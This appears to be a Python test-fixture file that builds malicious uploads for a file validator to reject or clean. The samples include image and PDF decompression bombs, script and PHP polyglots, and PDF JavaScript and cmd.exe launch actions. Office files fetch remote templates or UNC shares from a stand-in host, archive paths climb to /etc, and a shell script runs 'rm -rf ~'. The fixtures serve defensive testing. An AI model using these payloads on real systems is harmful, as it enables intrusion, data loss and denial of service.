"""Files that are made to do harm, written here: the project has none of them."""

import io
import struct
import zlib

import pikepdf
from PIL import Image

from tests.helpers.uploads.files import (
    DOCX,
    HTML,
    ODF,
    PDF,
    SVG,
    XLSX,
    archive,
    pdf,
    picture,
    zipped,
)

SCRIPT = b"<script>alert(document.domain)</script>"
PNG = b"\x89PNG\r\n\x1a\n"
OLE = b"\xd0\xcf\x11\xe0\xa1\xb1\x1a\xe1" + bytes(600)
CONTENT_TYPES = "[Content_Types].xml"
WORD_LINKS = "word/_rels/document.xml.rels"
EXTERNAL = 'TargetMode="External"'


# Pictures


def chunk(kind, data):
    return struct.pack(">I", len(data)) + kind + data + struct.pack(">I", zlib.crc32(kind + data))


def png(*more, width=8, height=8, rows=None):
    """Return a black PNG with more chunks before the picture; `rows` replaces its pixels."""
    head = struct.pack(">IIBBBBB", width, height, 8, 2, 0, 0, 0)
    rows = rows or zlib.compress(bytes((1 + 3 * width) * min(height, 100)))
    return PNG + chunk(b"IHDR", head) + b"".join(more) + chunk(b"IDAT", rows) + chunk(b"IEND", b"")


def text_bomb(kind, head):
    return chunk(kind, head + zlib.compress(bytes(20_000_000)))


def png_of_frames(frames):
    """Return an animation of large frames."""
    control = chunk(b"fcTL", struct.pack(">IIIIIHHBB", 0, 2_000, 2_000, 0, 0, 1, 10, 0, 0))
    rows = zlib.compress(bytes(6_001 * 2_000))
    more = [chunk(b"acTL", struct.pack(">II", frames, 0))]
    for number in range(1, frames):
        more += [control, chunk(b"fdAT", struct.pack(">I", number) + rows)]
    return png(*more, width=2_000, height=2_000, rows=rows)


def jpeg_of_scans(scans):
    """Return a picture of 40 million pixels that is drawn again in each scan."""
    data = picture(size=(6_300, 6_300), mode="L", progressive=True)
    last = data[data.rindex(b"\xff\xda") : -2]
    return data[:-2] + last * scans + data[-2:]


def jpeg_with_exif(*entries, more=b""):
    """Return a JPEG with entries of tag, type, count and value."""
    packed = b"".join(struct.pack("<HHII", *entry) for entry in entries)
    exif = b"II*\0\x08\0\0\0" + struct.pack("<H", len(entries)) + packed + bytes(4) + more
    return picture(exif=b"Exif\0\0" + exif)


def webp_declared_huge():
    data = bytearray(picture("WEBP", mode="RGBA", lossless=True))
    at = data.index(b"VP8L") + 9
    data[at : at + 4] = b"\xff\xff\xff\x1f"  # 16,384 pixels a side
    return bytes(data)


GIF_FRAMES = picture("GIF", save_all=True, append_images=[Image.new("RGB", (60, 40))] * 50)
# Rejected: they are no JPEG, PNG or WebP.
REJECTED_PICTURES = {
    "pixel-bomb-png": png(width=30_000, height=30_000),
    "gif-bomb": b"GIF89a\xff\xff\xff\xff\x80\0\0" + bytes(6) + b"\x2c" + bytes(20),
    "tiff-bomb": picture("TIFF", size=(9_000, 9_000), mode="1", compression="group4"),
    "svg-with-script": SVG,
    "html": HTML,
    "html-that-begins-as-gif": b"GIF89a/*" + SCRIPT,
    "gif-that-is-a-script": b"GIF89a=1;alert(1)//" + bytes(30),
    "gif-of-many-frames": GIF_FRAMES,
    "bitmap-that-is-a-script": b"BM=1;alert(1)//" + bytes(60),
    "pdf": PDF,
    "zip": DOCX,
    "postscript": b"%!PS-Adobe-3.0 EPSF-3.0\n%%BoundingBox: 0 0 9 9\n(x) run\n",
    "xml-with-entities": b'<!DOCTYPE svg [<!ENTITY a "aaaa">]><svg>&a;</svg>',
    "empty": b"",
    "beginning-of-a-jpeg": b"\xff\xd8\xff",
    "tiff": picture("TIFF"),
    "bitmap": picture("BMP"),
    "cut-off-jpeg": picture(size=(600, 400))[:400],
    "cut-off-png": picture("PNG", size=(600, 400))[:60],
    "cut-off-webp": picture("WEBP", size=(600, 400))[:60],
    "png-with-a-chunk-longer-than-the-file": PNG + b"\xff\xff\xff\xffIHDR" + bytes(20),
}
# Accepted as a picture, without the hidden content.
CLEANED_PICTURES = {
    "png-with-fewer-rows-than-declared": png(height=4_000),
    "jpeg-and-html": picture() + HTML,
    "jpeg-with-html-in-its-comment": picture(comment=SCRIPT),
    "jpeg-and-zip": picture() + DOCX,
    "jpeg-and-phar": picture() + b"<?php __HALT_COMPILER(); ?>\r\n" + SCRIPT,
    "jpeg-and-pdf": picture() + PDF,
    "png-and-zip": picture("PNG") + DOCX,
    "webp-and-html": picture("WEBP") + SCRIPT,
    "png-with-script-in-its-text": png(chunk(b"tEXt", b"Title\0" + SCRIPT)),
    "png-with-a-text-bomb": png(text_bomb(b"zTXt", b"a\0\0")),
    "png-with-an-international-text-bomb": png(text_bomb(b"iTXt", b"a\0\1\0\0\0")),
    "png-with-a-profile-bomb": png(text_bomb(b"iCCP", b"a\0\0")),
    "jpeg-with-script-in-its-exif": jpeg_with_exif((0x010E, 2, 4, 0), more=SCRIPT),
    "jpeg-with-exif-of-a-wrong-length": jpeg_with_exif((0x0112, 3, 0xFFFFFF, 9_999)),
    "jpeg-with-exif-in-circles": jpeg_with_exif((0x8769, 4, 1, 8), (0x0112, 3, 1, 1)),
    "jpeg-with-an-unknown-orientation": jpeg_with_exif((0x0112, 3, 1, 77)),
    "jpeg-with-an-invalid-profile": picture(icc_profile=SCRIPT * 1_000),
}

# PDF


def packed(*objects, filters=b"/FlateDecode", encode=zlib.compress):
    """Return a PDF whose further objects are in an object stream."""
    numbers, texts = b"", b""
    for number, content in enumerate(objects, 6):
        numbers += b"%d %d " % (number, len(texts))
        texts += content + b" "
    stream = encode(numbers + texts)
    head = b"<</Type/ObjStm/N %d/First %d/Filter[%s]/Length %d>>"
    head %= (len(objects), len(numbers), filters, len(stream))
    data = pdf(head + b"\nstream\n" + stream + b"\nendstream")
    body = data[: data.rindex(b"xref\n0 ")]
    rows = [struct.pack(">BIH", 0, 0, 0)]
    rows += [struct.pack(">BIH", 1, body.index(b"%d 0 obj" % number), 0) for number in range(1, 5)]
    rows += [struct.pack(">BIH", 1, len(body), 0)]
    rows += [struct.pack(">BIH", 2, 4, index) for index in range(len(objects))]
    table = b"".join(rows)
    head = b"<</Type/XRef/Root 1 0 R/Size %d/W[1 4 2]/Length %d>>" % (len(rows), len(table))
    table = b"5 0 obj\n" + head + b"\nstream\n" + table + b"\nendstream\nendobj\n"
    return body + table + b"startxref\n%d\n%%%%EOF\n" % len(body)


def encrypted(password):
    written = io.BytesIO()
    encryption = pikepdf.Encryption(owner="owner", user=password)
    pikepdf.open(io.BytesIO(PDF)).save(written, encryption=encryption)
    return written.getvalue()


def with_a_link(action):
    return pdf(b"<</Type/Annot/Subtype/Link/Rect[0 0 9 9]/F 4/A %s>>" % action)


JAVASCRIPT = b"<</S/JavaScript/JS(app.alert(1))>>"
URL = b"<</S/URI/URI(https://www.example.org/wiki/JavaScript)>>"
ACTIVE_CONTENT = {
    "script": JAVASCRIPT,
    "script-in-another-spelling": b"<</S /J#61v#61Script /JS (app.alert(1))>>",
    "script-without-its-type": b"[[<</JS(app.alert\\(1\\))>>]]",
    "program": b"<</S /Launch /F (cmd.exe)>>",
    "attachment": b"<</Type /EmbeddedFile>>",
    "tree-of-attachments": b"<</Names <</EmbeddedFiles 2 0 R>>>>",
    "stream-in-another-file": b"<</F(other.bin)/Length 0>>\nstream\n\nendstream",
    "film": b"<</Subtype /RichMedia>>",
    "form-that-sends": b"<</S /SubmitForm /F (https://elsewhere.example/)>>",
    "form-of-another-kind": b"<</AcroForm <</XFA 2 0 R>>>>",
    "other-file": b"<</S /GoToR /F (\\\\\\\\elsewhere.example\\\\share)>>",
    "thread-of-another-file": b"<</S/Thread/F(\\\\\\\\e.example\\\\a.pdf)/D 0>>",
    "thread-of-another-file-in-hex": b"<</S/Thread/F<5c5c652e6578616d706c65>/D 0>>",
    "page-of-another-file": b"<</Ref<</F<</FS/URL/F(https://e.example/a.pdf)>>/Page 0>>>>",
    "page-of-another-file-by-its-other-name": b"<</Ref<</F<</UF(a.pdf)>>/Page 0>>>>",
    "url-of-a-script": b"<</S/URI/URI(javascript:alert\\(1\\))>>",
    "url-of-a-script-in-another-encoding": b"<</S/URI/URI<FEFF006A0061007600610073003A>>>",
    "url-of-a-script-behind-a-space": b"<</S/URI/#55RI( \\tjavascript:x)>>",
    "url-of-a-server": b"<</S/URI/URI(\\\\\\\\e.example\\\\share)>>",
    "url-of-a-file": b"<</S/URI/URI(file://e.example/share)>>",
    "urls-that-start-with-that-of-a-server": b"<</URI<</Base(//e.example/)>>>>",
    "url-on-a-page-event": b"<</AA<</O %s>>>>" % URL,
}
DAMAGED = pdf().replace(b"/Type/Page/", b"/Type/Page(")
REJECTED_PDFS = {
    "does_more": {
        **{f"pdf-with-{name}": pdf(content) for name, content in ACTIVE_CONTENT.items()},
        "pdf-that-opens-a-url": pdf(catalog=b"/OpenAction %s" % URL),
        "pdf-that-opens-a-url-next": pdf(catalog=b"/OpenAction<</S/GoTo/Next %s>>" % URL),
        "pdf-with-a-link-to-a-script": with_a_link(JAVASCRIPT),
        "pdf-with-a-url-of-a-server-elsewhere": pdf(
            b"<</S/URI/URI 5 0 R>>", b"(\\\\\\\\e.example)"
        ),
        "pdf-with-a-packed-url-of-a-server": packed(b"<</S/URI/URI 7 0 R>>", b"(//e.example)"),
        "pdf-with-a-packed-script": packed(JAVASCRIPT),
        "pdf-with-a-script-packed-in-hex": packed(
            JAVASCRIPT,
            filters=b"/ASCIIHexDecode/FlateDecode",
            encode=lambda data: zlib.compress(data).hex().encode() + b">",
        ),
    },
    "protected": {"pdf-with-a-password": encrypted("user"), "pdf-with-restrictions": encrypted("")},
    "unreadable": {
        "pdf-with-packed-objects-that-are-damaged": packed(JAVASCRIPT, encode=lambda data: data),
        "pdf-with-a-script-behind-its-end": PDF + pdf(JAVASCRIPT),
        "pdf-with-two-ends": PDF + pdf(JAVASCRIPT).replace(b"startxref", b""),
        "pdf-with-two-meanings-of-a-key": pdf(b"<</S/URI/S/GoTo>>"),
        "pdf-with-a-damaged-object": DAMAGED,
        "pdf-without-a-table": b"%PDF-1.7\n1 0 obj\n" + JAVASCRIPT + b"\nendobj\n%%EOF",
        "pdf-that-is-cut-off": PDF[:-40],
        "pdf-and-zip": PDF + DOCX,
        "pdf-and-program": PDF + b"\nMZ" + bytes(5_000),
    },
}

# Office documents


def word(parts):
    return zipped({CONTENT_TYPES: "<Types/>", "word/document.xml": "<document/>"} | parts)


def sheet(parts):
    return zipped({CONTENT_TYPES: "<Types/>", "xl/workbook.xml": "<workbook/>"} | parts)


def links(kind, target, mode=EXTERNAL, times=1):
    """Return the relationships of a part of a document."""
    kind = f"http://schemas.openxmlformats.org/officeDocument/2006/relationships/{kind}"
    link = f'<Relationship Type="{kind}" Target="{target}" {mode}/>'
    return f"<Relationships>{link * times}</Relationships>"


def linked_word(kind, target, mode=EXTERNAL, **parts):
    return word({WORD_LINKS: links(kind, target, mode), **parts})


def workbook_link(target):
    return sheet(
        {"xl/externalLinks/_rels/externalLink1.xml.rels": links("externalLinkPath", target)}
    )


def embedded_sheet(data, target="embeddings/Sheet1.xlsx"):
    """Return a Word document with a chart whose sheet is a file of its own."""
    return linked_word("package", target, "", **{"word/embeddings/Sheet1.xlsx": data})


def declared_word(content_type, encoding="utf-8"):
    """Return a Word document whose list of parts declares one of this type."""
    types = f'<Types><Override PartName="/word/x.bin" ContentType="{content_type}"/></Types>'
    declaration = f'<?xml version="1.0" encoding="{encoding}"?>'
    return word({CONTENT_TYPES: (declaration + types).encode(encoding)})


def text(element, part="content.xml"):
    """Return an OpenDocument text with an element in one of its parts."""
    names = [
        f'xmlns:{name[0]}="urn:oasis:{name}"' for name in "office draw text script mani".split()
    ]
    xml = f'<o:x {" ".join(names)} xmlns:l="http://www.w3.org/1999/xlink">{element}</o:x>'
    return zipped({"mimetype": f"{ODF}.text", "content.xml": "<x/>", part: xml})


def macro_text(scheme, part="content.xml"):
    listener = f'<s:event-listener s:event-name="dom:load" l:href="{scheme}:a.py$b"/>'
    return text(listener, part)


def twice_the_same_part():
    """Return an archive whose list has its first entry twice."""
    first = DOCX.index(b"PK\x01\x02")
    entry = DOCX[first : DOCX.index(b"PK\x01\x02", first + 1)]
    end = DOCX.rindex(b"PK\x05\x06")
    count, length = struct.unpack_from("<HI", DOCX, end + 10)
    closing = bytearray(DOCX[end:])
    struct.pack_into("<HHI", closing, 8, count + 1, count + 1, length + len(entry))
    return DOCX[:end] + entry + closing


def overlapping_parts():
    """Return an archive with two parts that are the same bytes."""
    data = bytearray(DOCX)
    second = data.rindex(b"PK\x01\x02")
    data[second + 42 : second + 46] = bytes(4)
    return bytes(data)


def locked():
    """Return an archive that declares its parts as encrypted."""
    data = DOCX
    for mark, place in ((b"PK\x03\x04", 6), (b"PK\x01\x02", 8)):
        before, *entries = data.split(mark)
        entries = [entry[: place - 4] + b"\1" + entry[place - 3 :] for entry in entries]
        data = mark.join([before, *entries])
    return data


DDE = {"xl/externalLinks/externalLink1.xml": '<x><ddeLink ddeService="cmd" ddeTopic="/c"/></x>'}
OBJECT_ENTRY = '<m:file-entry m:media-type="application/vnd.sun.star.oleobject"/>'
UNSAFE_LINKS = [
    "javascript:alert(1)",
    "\\\\e.example\\x",
    "%5c%5ce.example/x",
    "//e.example/x",
    "file:///C:/Windows/System32/cmd.exe",
    "search-ms:query=x",
    "evil.exe",
]
REJECTED_OFFICE_FILES = {
    "macros": {
        "word-with-macros": word({"word/vbaProject.bin": "x"}),
        "sheet-with-macros-in-capitals": sheet({"xl/VBAPROJECT.BIN": "x"}),
        "sheet-with-a-macro-sheet": sheet({"xl/macrosheets/sheet1.xml": "<x/>"}),
        "sheet-that-declares-a-macro-sheet": declared_word(
            "application/vnd.ms-excel.macrosheet+xml"
        ),
        "text-with-macros": archive("content.xml", "Basic/A/B.xml", mimetype=f"{ODF}.text"),
        "text-with-scripts": archive("content.xml", "Scripts/python/x", mimetype=f"{ODF}.text"),
        "word-with-declared-macros": declared_word("application/vnd.ms-office.vbaProject"),
        "word-with-macros-in-capitals": declared_word("application/x.MACROENABLED.main+xml"),
        "word-with-spelt-macros": declared_word("application/vnd.ms-office.vba&#80;roject"),
        "word-with-macros-in-utf-16": declared_word("x.macroEnabled.main+xml", "utf-16"),
        "text-that-starts-a-script": macro_text("vnd.sun.star.script"),
        "text-that-starts-a-spelt-script": macro_text("vnd.sun.star.scrip&#116;"),
        "text-that-starts-a-script-in-its-styles": macro_text("macro", "styles.xml"),
    },
    "objects": {
        "word-with-a-control": word({"word/activeX/activeX1.bin": "x"}),
        "word-with-a-packed-program": word({"word/embeddings/oleObject1.bin": "x"}),
        "word-with-a-program-of-another-name": linked_word("oleObject", "media/x.dat", ""),
        "word-with-a-program-of-another-ending": word({"word/embeddings/x.ole": OLE}),
        "word-with-an-old-sheet": word({"word/embeddings/sheet.xls": OLE}),
        "word-with-a-control-elsewhere": linked_word("control", "x/y.xml", ""),
        "word-with-a-program": word({"word/embeddings/evil.exe": b"MZ"}),
        "word-with-a-program-as-a-picture": linked_word("package", "media/image1.png", ""),
        "word-with-a-part-of-another-format": linked_word("aFChunk", "part.xml", ""),
        "word-with-its-own-buttons": linked_word("ui/extensibility", "customUI/customUI.xml", ""),
        "word-with-a-web-extension": linked_word("webextension", "webextension1.xml", ""),
        "sheet-with-a-dialog": linked_word("dialogsheet", "dialogsheets/sheet1.xml", ""),
        "word-with-a-sheet-with-macros": embedded_sheet(sheet({"xl/vbaProject.bin": "x"})),
        "word-with-a-sheet-in-a-sheet-with-a-program": embedded_sheet(
            sheet({"xl/embeddings/a.docx": word({"word/embeddings/evil.exe": b"MZ"})})
        ),
        "word-with-a-sheet-that-is-a-page": embedded_sheet(HTML),
        "text-with-a-program": archive("content.xml", "evil.exe", mimetype=f"{ODF}.text"),
        "text-with-an-object-of-its-program": archive("Object 1", mimetype=f"{ODF}.text"),
        "text-with-an-object": text('<d:object-ole l:href="./Object 1"/>'),
        "text-that-declares-an-object": text(OBJECT_ENTRY, "META-INF/manifest.xml"),
    },
    "takes_in": {
        "word-that-fetches-a-template": linked_word("attachedTemplate", "https://e.example/t.dotm"),
        "word-that-fetches-an-object": linked_word("oleObject", "mhtml:https://e.example/"),
        "word-with-a-template-of-a-server": linked_word(
            "attachedTemplate", "file:///\\\\e.example\\t.dotm"
        ),
        "word-with-a-template-of-a-coded-server": linked_word(
            "attachedTemplate", "%5C%5Ce.example%5Ct.dotm"
        ),
        "word-with-a-template-of-a-coded-server-as-a-url": linked_word(
            "attachedTemplate", "file:///%5c%5ce.example/t.dotm"
        ),
        "word-with-a-template-of-a-server-coded-twice": linked_word(
            "attachedTemplate", "file:///%255c%255ce.example/t.dotm"
        ),
        "word-with-a-part-of-a-server": linked_word("subDocument", "file:///C:/a/b.docx"),
        "word-with-a-part-of-a-coded-server": linked_word("header", "%5C%5Ce.example/x.xml", ""),
        "sheet-with-a-value-of-another": workbook_link("file:///C:\\a\\b.xlsx"),
        "sheet-with-a-link-elsewhere": linked_word("externalLink", "x.xml", ""),
        "sheet-with-a-value-of-its-neighbour": workbook_link("b.xlsx"),
        "word-that-hides-a-url": linked_word("attachedTemplate", "&#104;ttps://e.example/"),
        "word-that-hides-a-kind": linked_word("attachedTemplat&#101;", "https://e.example/"),
        "word-with-a-film-from-the-web": linked_word("video", "https://e.example/film"),
        "sheet-that-starts-a-program": sheet(DDE),
        "sheet-that-fetches-when-it-is-opened": sheet(
            {"xl/connections.xml": '<x><connection refreshOnLoad="1"/></x>'}
        ),
        "text-that-fetches-a-part": text('<t:section-source l:href="https://e.example/x.odt"/>'),
        "text-with-a-frame": text('<d:floating-frame l:href="https://e.example/"/>'),
        "text-that-starts-a-program": text('<o:dde-source o:dde-application="cmd"/>'),
    },
    "pictures": {
        "word-with-a-picture-from-the-web": linked_word("image", "https://e.example/x.png"),
        "word-with-a-picture-of-a-server": linked_word("image", "file:///\\\\e.example\\x.png"),
        "text-with-a-picture-from-the-web": text('<d:image l:href="https://e.example/x.png"/>'),
        "text-with-a-picture-of-a-coded-server": text('<d:image l:href="%5c%5Ce.example/x"/>'),
    },
    "links": {
        **{
            f"word-with-a-link-to-{target}": linked_word("hyperlink", target)
            for target in UNSAFE_LINKS
        },
        "text-with-a-link-to-a-script": text('<t:a l:href="javascript:alert(1)">x</t:a>'),
    },
    "unsafe": {
        "word-with-macros-in-another-list": word({"[content_types].xml": "vbaProject"}),
        "word-that-climbs-out": word({"../../etc/cron.d/x": "x"}),
        "word-that-climbs-out-on-windows": word({"..\\..\\x.exe": "x"}),
        "word-with-an-absolute-part": word({"/etc/passwd": "x"}),
        "word-with-a-part-on-a-drive": word({"C:x.exe": "x"}),
        "word-with-twice-the-same-part": twice_the_same_part(),
        "word-with-overlapping-parts": overlapping_parts(),
        "word-that-is-locked": locked(),
        "word-with-two-targets-of-a-template": linked_word(
            "attachedTemplate", "//e.example/x", 'x:Target="t.dotx" xmlns:x="x"'
        ),
        "word-of-too-many-parts": word({f"word/{number}": "" for number in range(10_000)}),
    },
    "old_or_locked": {"word-of-before-2007": OLE},
    "wrong_type": {
        "sheet-with-links-that-are-no-xml": sheet({"xl/connections.xml": "<x>"}),
        "text-with-an-entity": zipped(
            {"mimetype": f"{ODF}.text", "content.xml": '<!DOCTYPE x [<!ENTITY a "b">]><x>&a;</x>'}
        ),
    },
}

REJECTED_OTHER_FILES = {
    "wrong_type": {
        "html": HTML,
        "html-and-pdf": HTML + PDF,
        "html-and-word": HTML + DOCX,
        "gif-and-word": b"GIF89a" + DOCX,
        "picture": picture(),
        "program": b"MZ\x90\0" + bytes(60),
        "shell-script": b"#!/bin/sh\nrm -rf ~\n",
        "shortcut": b"L\0\0\0\x01\x14\x02\0" + bytes(60),
        "svg-with-script": SVG,
        "archive": archive("index.html"),
        "java-archive": archive("META-INF/MANIFEST.MF", "A.class"),
        "zip-of-zips": zipped({f"{number}.zip": DOCX for number in range(9)}),
        "office-file-of-another-program": archive(CONTENT_TYPES, "other/part.xml"),
        "epub": archive("x", mimetype="application/epub+zip"),
        "html-that-declares-its-type": archive("x", mimetype="text/html"),
        "cut-off-word": DOCX[:60],
        "empty": b"",
    }
}
# Bytes by name, and the code of the rejection.
REJECTED_DOCUMENTS = {
    name: (data, code)
    for table in (REJECTED_PDFS, REJECTED_OFFICE_FILES, REJECTED_OTHER_FILES)
    for code, files in table.items()
    for name, data in files.items()
}
HARMLESS_DOCUMENTS = {
    "pdf-with-links": with_a_link(URL),
    "pdf-with-links-to-pages-of-such-names": pdf(b"[(/JavaScript \\( /Launch) <</URI(/AA)>>]"),
    "pdf-with-packed-links": packed(URL, URL),
    **{
        f"pdf-with-a-link-to-{url}": with_a_link(b"<</S/URI/URI(%s)>>" % url.encode())
        for url in ("HTTP://e.example/a:b", "mailto:a@b.example", "www.e.example/?a=b:c", "#a", "")
    },
    "pdf-with-an-article-and-a-font": pdf(b"<</Type/Thread/F 3 0 R>>", b"<</Font<</F 3 0 R>>>>"),
    "pdf-with-names-in-latin-1": pdf(b"<</Caf#e9 /Arial#e9>>"),
    "pdf-that-opens-at-a-page": pdf(catalog=b"/OpenAction[3 0 R/Fit]"),
    "pdf-that-goes-to-a-page": pdf(catalog=b"/OpenAction<</S/GoTo/D[3 0 R/Fit]>>"),
    "pdf-with-bytes-behind-its-end": PDF + b"\n\0\0",
    "sheet-of-7000-links": sheet(
        {
            "xl/worksheets/_rels/sheet1.xml.rels": links(
                "hyperlink", "https://www.example.org/", times=7_000
            )
        }
    ),
    "sheet-that-asks-before-it-fetches": sheet(
        {"xl/connections.xml": '<x><connection refreshOnLoad="0"/></x>'}
    ),
    "word-with-a-picture-inside": linked_word("image", "media/image1.png", ""),
    "word-with-a-chart-and-its-sheet": embedded_sheet(XLSX, "../embeddings/Sheet1.xlsx"),
    "word-with-links": word(
        {
            "word/_rels/document.xml.rels": links("hyperlink", "mailto:a@b.example"),
            "word/_rels/footnotes.xml.rels": links("hyperlink", "HTTPS://www.example.org/%5C"),
            "word/_rels/endnotes.xml.rels": links("hyperlink", "#_Toc1"),
        }
    ),
    "word-as-word-writes-it": archive(
        CONTENT_TYPES,
        "_rels/.rels",
        "customXml/_rels/item1.xml.rels",
        "docProps/thumbnail.wmf",
        "word/charts/chart1.xml",
        "word/document.xml",
        "word/drawings/vmlDrawing1.vml",
        "word/fonts/font1.odttf",
        "word/media/",
        "word/media/image1.EMF",
        "word/media/image2.jpeg",
        "word/media/image3.tmp",
        "word/printerSettings1.bin",
    ),
    "slides-as-google-writes-them": zipped(
        {
            CONTENT_TYPES: "<Types/>",
            "ppt/_rels/presentation.xml.rels": links("presentationmetadata", "metadata", ""),
            "ppt/fonts/Lato-regular.fntdata": "x",
            "ppt/metadata": "x",
        }
    ),
    "text-as-libreoffice-writes-it": archive(
        "Configurations2/toolbar/",
        "META-INF/manifest.xml",
        "Object 1/content.xml",
        "ObjectReplacements/Object 1",
        "Pictures/1000000000000.svg",
        "Thumbnails/thumbnail.png",
        "layout-cache",
        "manifest.rdf",
        mimetype=f"{ODF}.text",
    ),
    "word-with-a-template-of-its-author": linked_word("attachedTemplate", "file:///C:\\a\\t.dotx"),
    "text-with-pictures-and-links": text(
        '<d:image l:href="Pictures/1.png"/><d:object l:href="./Object 1"/>'
        '<t:a l:href="https://www.example.org/">x</t:a>'
    ),
}
# Files that take much time or memory: their maker, the examiner and the result.
BOMBS = {
    "jpeg-of-thousands-of-scans": (lambda: jpeg_of_scans(9_000), "image", "too_complex"),
    "jpeg-of-fifty-scans": (lambda: jpeg_of_scans(40), "image", "accepted"),
    "png-of-thousands-of-profiles": (
        lambda: png(*[chunk(b"iCCP", b"a\0\0" + zlib.compress(bytes(1_000_000)))] * 9_000),
        "image",
        "accepted",
    ),
    "png-of-a-hundred-frames": (lambda: png_of_frames(100), "image", "accepted"),
    "png-of-40-million-pixels": (
        lambda: picture("PNG", size=(6_300, 6_300), mode="RGBA"),
        "image",
        "accepted",
    ),
    "webp-of-40-million-pixels": (
        lambda: picture("WEBP", size=(16_000, 2_400), method=0),
        "image",
        "accepted",
    ),
    "webp-declared-huge": (webp_declared_huge, "image", "wrong_type"),
    "zip-of-1200-megabytes": (
        lambda: word({f"word/media/{number}.bmp": bytes(100_000_000) for number in range(12)}),
        "document",
        "unsafe",
    ),
    "zip-of-a-million-parts": (lambda: DOCX + b"PK\x01\x02" * 1_000_000, "document", "unsafe"),
    "list-of-parts-of-100-megabytes": (
        lambda: word({CONTENT_TYPES: bytes(100_000_000)}),
        "document",
        "wrong_type",
    ),
    "text-of-very-many-elements-in-each-other": (
        lambda: text("<x y=''>" * 3_000_000),
        "document",
        "wrong_type",
    ),
    "pdf-that-unpacks-to-120-megabytes": (
        lambda: packed(b"[%s]" % (b"0 " * 60_000_000)),
        "document",
        "unreadable",
    ),
    "pdf-of-objects-in-each-other": (
        lambda: pdf(b"[" * 20_000_000 + b"]" * 20_000_000),
        "document",
        "unreadable",
    ),
    "pdf-of-many-numbers": (lambda: pdf(b"[%s]" % (b"0 " * 24_000_000)), "document", "unreadable"),
    "pdf-of-many-objects": (
        lambda: pdf(*[b"[%s]" % (b"0 " * 60)] * 250_000),
        "document",
        "unreadable",
    ),
}
